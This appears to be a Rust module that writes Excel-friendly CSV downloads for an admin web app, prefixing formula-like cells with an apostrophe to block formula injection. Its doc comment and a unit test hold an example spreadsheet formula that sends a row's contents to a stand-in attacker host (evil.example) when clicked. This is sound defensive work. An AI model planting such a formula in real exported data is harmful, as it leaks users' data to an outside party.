//! The CSV files admins download (the audit log, an event's attendees) and open in Excel: RFC
//! 4180 with CRLF line ends, UTF-8 with a byte order mark (without it Excel reads UTF-8 as
//! Shift_JIS and garbles Japanese), and every cell made safe to open.
//!
//! Members write some of what these files hold (their names, an event they proposed), so a cell
//! that begins like a formula would be one in Excel: `=HYPERLINK("https://evil.example/?"&A2)`
//! sends the row to an attacker when clicked. OWASP's rule: a cell starting with `=`, `+`, `-`,
//! `@`, a tab or a carriage return is written with a leading apostrophe, which spreadsheets show
//! as text and do not evaluate.

use std::borrow::Cow;

use axum::http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::response::{IntoResponse, Response};

use crate::error::Error;

/// A CSV file being written, header first.
#[derive(Debug)]
pub(crate) struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
    /// What the file is, for errors ("the audit CSV").
    what: &'static str,
}

impl CsvFile {
    pub(crate) fn new(what: &'static str, header: &[&str]) -> Result<Self, Error> {
        let mut file = Self {
            writer: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(b"\xEF\xBB\xBF".to_vec()),
            what,
        };
        file.row(header.iter().copied())?;
        Ok(file)
    }

    /// Writes one row, every cell made safe ([`neutralise`]).
    pub(crate) fn row<'c>(
        &mut self,
        cells: impl IntoIterator<Item = &'c str>,
    ) -> Result<(), Error> {
        let what = self.what;
        self.writer
            .write_record(cells.into_iter().map(|cell| neutralise(cell).into_owned()))
            .map_err(|e| Error::Corrupt(format!("writing {what}: {e}")))
    }

    /// The file as a download named `filename` (plain ASCII).
    pub(crate) fn into_download(self, filename: &str) -> Result<Response, Error> {
        let what = self.what;
        let bytes = self
            .writer
            .into_inner()
            .map_err(|e| Error::Corrupt(format!("writing {what}: {e}")))?;
        let disposition = format!("attachment; filename=\"{filename}\"");
        Ok((
            [
                (CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
                (CONTENT_DISPOSITION, disposition),
                (CACHE_CONTROL, "no-store".to_owned()),
            ],
            bytes,
        )
            .into_response())
    }
}

/// A cell a spreadsheet shows as the text it is: one that would start a formula gets a leading
/// apostrophe.
pub(crate) fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_start_a_formula_are_written_as_text() {
        for formula in [
            "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"));
        }
        for text in ["山田 花子", "", "a=b", "2026-11-29T10:00:00Z", "'quoted"] {
            assert_eq!(neutralise(text), text);
        }
    }

    #[test]
    fn a_file_has_a_bom_crlf_and_safe_cells() {
        let mut file = CsvFile::new("a test CSV", &["name", "note"]).expect("a header");
        file.row(["=1+1", "ok"]).expect("a row");
        let bytes = file.writer.into_inner().expect("bytes");
        assert_eq!(bytes, b"\xEF\xBB\xBFname,note\r\n'=1+1,ok\r\n");
    }
}
